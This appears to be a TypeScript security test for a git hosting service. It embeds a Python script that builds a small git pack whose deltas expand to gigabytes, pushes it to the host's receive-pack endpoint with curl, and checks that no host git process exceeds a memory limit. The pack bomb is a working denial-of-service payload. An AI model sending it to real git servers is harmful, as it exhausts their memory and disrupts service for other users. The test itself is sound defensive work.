import { readdir, readFile } from 'node:fs/promises';
import { setTimeout as sleep } from 'node:timers/promises';
import { wrongIn, type Attack } from '../../attack.ts';
import { attackFromInside } from '../../rig/from-inside.ts';

/** What one git process of the host may take at most, whatever it is sent. */
const MAX_RSS_MB = 1_400;
const LOOK_EVERY_MS = 50;

/** A pack of a few kilobytes: each delta copies the whole object before it eight times, up to two gigabytes. */
const SCRIPT = `weapon <<'PY'
from weapon import *
import hashlib, struct, subprocess, zlib
MEGABYTE = 1 << 20
def number(value):
    out = bytearray()
    while True:
        byte = value & 0x7f
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)
def header(kind, size):
    first, size = (kind << 4) | (size & 15), size >> 4
    out = bytearray()
    while size:
        out.append(first | 0x80)
        first, size = size & 0x7f, size >> 7
    return bytes(out + bytes([first]))
# Each copies the whole of the one before, eight times.
size = 4 * MEGABYTE
base = b"\\0" * size
objects = [header(3, len(base)) + zlib.compress(base, 9)]
name = hashlib.sha1(b"blob %d\\0" % len(base) + base).digest()
for level in range(3):
    larger = size * 8
    copies, chunk = b"", 0xffffff
    for _ in range(8):
        offset = 0
        while offset < size:
            length = min(chunk, size - offset)
            copies += bytes([0xff]) + struct.pack("<I", offset) + struct.pack("<I", length)[:3]
            offset += length
    delta = number(size) + number(larger) + copies
    objects.append(header(7, len(delta)) + name + zlib.compress(delta, 9))
    size = larger
    blob = hashlib.sha1(b"blob %d\\0" % size)
    zeros = b"\\0" * MEGABYTE
    for _ in range(size // MEGABYTE):
        blob.update(zeros)
    name = blob.digest()
    print(f"level {level}: {size // MEGABYTE} MB", flush=True)
    if size >= 2048 * MEGABYTE:
        break
pack = b"PACK" + struct.pack(">II", 2, len(objects)) + b"".join(objects)
pack += hashlib.sha1(pack).digest()
print(f"pack={len(pack)}", flush=True)
command = b"%s %s refs/heads/bomb\\0 report-status" % (b"0" * 40, name.hex().encode())
body = b"%04x" % (len(command) + 4) + command + b"0000" + pack
open("/tmp/body", "wb").write(body)
PY
      url=$(git remote get-url origin)
      curl -s -m 50 -o /tmp/answer -w 'status=%{http_code}\\n' -u "x:$REPO_TOKEN" -H 'content-type: application/x-git-receive-pack-request' --data-binary @/tmp/body "$url/git-receive-pack"
      tr -d '\\0' < /tmp/answer | head -c 300
      git ls-remote origin | grep bomb && hole "the bomb is in the repo"
      true`;

export const PACK_BOMB: Attack = {
  name: 'a pack that unpacks to gigabytes does not take the host’s memory',
  area: 'git',
  must: 'A few kilobytes of deltas that grow to gigabytes are refused, and no git process of the host grows with them.',
  alone: true,
  async run(arena, underWay) {
    const done = new AbortController();
    const watched = mostMemory(done.signal);
    const { outcome } = await attackFromInside(
      arena,
      { script: SCRIPT, request: { timeoutSeconds: 60, resources: { memoryMb: 512, cpus: 2 } } },
      underWay,
    );
    done.abort();
    const mostMb = await watched;
    const { log } = outcome;
    return wrongIn(
      [/^pack=\d+$/m.test(log), 'no bomb was made'],
      [/^status=\d{3}/m.test(log), `the host gave no answer: ${log.slice(-300)}`],
      [!log.includes('HOLE'), 'the bomb is in the repo'],
      [mostMb <= MAX_RSS_MB, `a git process of the host grew to ${mostMb.toFixed(0)} MB`],
    );
  },
};

/** The greatest that a git process outside of sandboxes has been until then, in MB. */
async function mostMemory(until: AbortSignal): Promise<number> {
  let most = 0;
  while (!until.aborted) {
    const pids = (await readdir('/proc')).filter((name) => /^\d+$/.test(name));
    const texts = await Promise.all(pids.map((pid) => readFile(`/proc/${pid}/status`, 'utf8').catch(() => '')));
    for (const text of texts.filter((each) => each.startsWith('Name:\tgit'))) {
      most = Math.max(most, Number(/^VmHWM:\s+(\d+)/m.exec(text)?.[1] ?? 0) / 1024);
    }
    await sleep(LOOK_EVERY_MS, undefined, { signal: until }).catch(() => undefined);
  }
  return most;
}
